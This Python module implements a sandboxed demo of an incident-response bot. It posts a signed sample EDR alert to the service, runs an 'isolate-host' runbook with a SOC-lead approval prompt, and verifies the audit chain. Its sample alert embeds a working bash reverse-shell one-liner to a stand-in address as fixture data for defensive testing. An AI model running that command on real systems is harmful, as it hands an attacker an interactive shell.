"""``runbook demo``: a whole incident, end to end, in the sandbox — no accounts needed.

It starts the real service (with the fake vendors) on a free loopback port,
sends a signed sample EDR alert to ``POST /alerts/crowdstrike``, follows the
host-isolation run step by step, asks the approval question on standard
input (one ``y``/``n`` per line, terminal or not — the person at the
terminal is made a SOC lead for the demo; the alert is the requester),
prints the run summary, verifies the audit chain, and stops everything it
started before it exits.
"""

from __future__ import annotations

import asyncio
import contextlib
import getpass
import hashlib
import hmac
import json
import logging
import secrets
import shutil
import sys
import tempfile
from pathlib import Path
from typing import Any

from bot.audit.verify import verify
from bot.chat.console import Timeline
from bot.cli import EXIT_FAILED, EXIT_OK
from bot.cli.context import CliContext
from bot.config import alert_secret_name, load_settings
from bot.engine.state import RunState

DEMO_RUNBOOK = "isolate-host"
SAMPLE_ALERT: dict[str, Any] = {
    "composite_id": "demo:ind:7f3a0c1e:reverse-shell",
    "display_name": "Reverse shell to 203.0.113.66",
    "description": "A process opened an interactive shell to a known C2 address.",
    "severity": 95,
    "status": "new",
    "tactic": "Command and Control",
    "technique": "Application Layer Protocol",
    "device": {"hostname": "web-1", "platform_name": "Linux", "local_ip": "10.0.1.17"},
    "cmdline": "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
}


class _Out:
    def __init__(self) -> None:
        self.colour = sys.stdout.isatty()

    def say(self, text: str = "", style: str = "") -> None:
        codes = {"bold": "1", "dim": "2", "ok": "32", "bad": "31", "warn": "33", "info": "36"}
        if self.colour and style:
            text = f"\x1b[{codes[style]}m{text}\x1b[0m"
        print(text, flush=True)


def cmd_demo(ctx: CliContext) -> int:
    return asyncio.run(run_demo(ctx))


async def run_demo(ctx: CliContext) -> int:
    import uvicorn

    from bot.logs import setup_logging
    from bot.service import Service
    from bot.web.app import create_app
    from bot.web.intake import extensions as intake_extensions

    out = _Out()
    user = getpass.getuser()
    workdir = Path(tempfile.mkdtemp(prefix="runbook-demo-"))
    secret = secrets.token_urlsafe(24)
    env = {k: v for k, v in ctx.env.items() if not k.startswith("SLACK_")}
    env[alert_secret_name("crowdstrike")] = secret
    settings = load_settings(
        env, runbooks_dir=str(ctx.settings.runbooks_dir), data_dir=str(workdir / "data")
    )
    leads = {"soc-leads": [user], "soc-managers": [user], "soc": [user]}
    settings = settings.model_copy(update={"groups": {**settings.groups, **leads}})
    setup_logging("text", "error")

    out.say("Runbook Bot demo", "bold")
    out.say(
        "  SANDBOX: every vendor below is a fake API on 127.0.0.1; nothing real is touched.", "warn"
    )
    out.say(f"  You ({user}) are a SOC lead for this demo; the alert is the requester.", "dim")
    service = Service(settings, env, sandbox=True, extensions=intake_extensions(settings))
    service.open()
    server = uvicorn.Server(
        uvicorn.Config(
            create_app(service),
            host="127.0.0.1",
            port=0,
            lifespan="on",
            log_config=None,
            access_log=False,
        )
    )
    serving = asyncio.create_task(server.serve(), name="demo-server")
    try:
        await _wait_ready(service, serving)
        sock = server.servers[0].sockets[0].getsockname()
        url = f"http://{sock[0]}:{sock[1]}"
        out.say(f"  service:  {url} (data in {workdir / 'data'})", "dim")
        out.say(f"  vendors:  {service.sandbox.url if service.sandbox else '-'}", "dim")
        return await _story(out, service, url, secret, user)
    finally:
        server.should_exit = True
        with contextlib.suppress(Exception):
            await asyncio.wait_for(serving, timeout=60)
        shutil.rmtree(workdir, ignore_errors=True)
        out.say("  stopped the service and the fake vendors; removed the demo data.", "dim")


async def _wait_ready(service: Any, serving: asyncio.Task[None]) -> None:
    ready = asyncio.ensure_future(service.ready_event.wait())
    done, _ = await asyncio.wait({ready, serving}, timeout=60, return_when=asyncio.FIRST_COMPLETED)
    if ready not in done:
        ready.cancel()
        raise RuntimeError("the demo service did not start")


async def _story(out: _Out, service: Any, url: str, secret: str, user: str) -> int:
    import httpx

    engine = service.engine
    timeline = Timeline(sys.stdout, runbooks={DEMO_RUNBOOK})
    engine.listeners.append(timeline)
    body = json.dumps(SAMPLE_ALERT).encode()
    signature = hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()
    out.say()
    out.say(
        "1. Falcon raises a critical alert; it is posted, signed, to /alerts/crowdstrike:", "bold"
    )
    out.say(
        f"   {SAMPLE_ALERT['display_name']} on {SAMPLE_ALERT['device']['hostname']} "
        f"(severity {SAMPLE_ALERT['severity']})",
        "dim",
    )
    async with httpx.AsyncClient(timeout=30) as client:
        answer = await client.post(
            f"{url}/alerts/crowdstrike",
            content=body,
            headers={
                "Content-Type": "application/json",
                "X-Runbook-Signature": f"sha256={signature}",
            },
        )
    if answer.status_code != 202:
        out.say(f"   the intake answered {answer.status_code}: {answer.text}", "bad")
        return EXIT_FAILED
    started = answer.json().get("runs", [])
    out.say(
        f"   202 accepted: {', '.join(r['runbook'] for r in started) or 'no runbook matched'}", "ok"
    )
    runs = [r["id"] for r in started]
    mine = next((r["id"] for r in started if r["runbook"] == DEMO_RUNBOOK), None)
    if mine is None:
        out.say(f"   {DEMO_RUNBOOK} did not start; check runbooks/{DEMO_RUNBOOK}.md", "bad")
        return EXIT_FAILED
    timeline.follow = {mine}
    out.say(f"   (the {DEMO_RUNBOOK} run is {mine}; its steps are shown as they happen)", "dim")
    while True:
        run: RunState = await engine.wait_settled(mine)
        if run.ended:
            break
        for sid in run.waiting_gates:
            gate = run.steps[sid].gate
            assert gate is not None
            out.say()
            out.say(f"2. The run waits for a SOC lead at '{sid}' (that is you).", "bold")
            print("   Approve the containment? [y/n]: ", end="", flush=True)
            line = await asyncio.to_thread(sys.stdin.readline)
            if not sys.stdin.isatty():
                print(line.strip() or "(no answer)", flush=True)
            if not line:
                out.say("   no answer on standard input: rejecting", "warn")
            approve = line.strip().lower() in ("y", "yes")
            decision = "approve" if approve else "reject"
            result = await engine.decide(
                mine, sid, f"cli:{user}", decision, comment="decided in runbook demo"
            )
            if result.reason:
                out.say(f"   {result.reason}", "warn")
    for other in runs:
        if other != mine:
            await engine.wait_settled(other)
    out.say()
    out.say("3. Summary:", "bold")
    for sid in run.step_ids:
        step = run.steps[sid]
        outcome = str(step.outcome) if step.outcome else "not run"
        out.say(
            f"   {sid:<14} {outcome:<10} {step.error or ''}",
            "ok" if outcome in ("succeeded", "approved") else "dim",
        )
    colour = "ok" if str(run.status) == "succeeded" else "bad"
    out.say(f"   run {run.id}: {run.status}", colour)
    others = [engine.store.get_run(rid) for rid in runs if rid != mine]
    for other in others:
        if other is not None:
            out.say(f"   (the same alert also ran {other.runbook}: {other.status})", "dim")
    contained = service.sandbox.crowdstrike.host("web-1").status if service.sandbox else "?"
    out.say(f"   fake Falcon now reports web-1 as: {contained}", "dim")
    out.say()
    result = verify(str(service.settings.data_dir / "audit.jsonl"))
    out.say("4. The audit log:", "bold")
    if result.ok:
        out.say(f"   {result.records} records, hash chain verified (`runbook audit verify`)", "ok")
    else:
        out.say(f"   BROKEN: {result.problem}", "bad")
    out.say()
    out.say(
        "Next: `make run` serves this with the sandbox on http://127.0.0.1:3000; "
        "docs/quickstart.md connects your own Slack and EDR.",
        "dim",
    )
    return EXIT_OK if str(run.status) == "succeeded" and result.ok else EXIT_FAILED


logging.getLogger("runbook.demo")
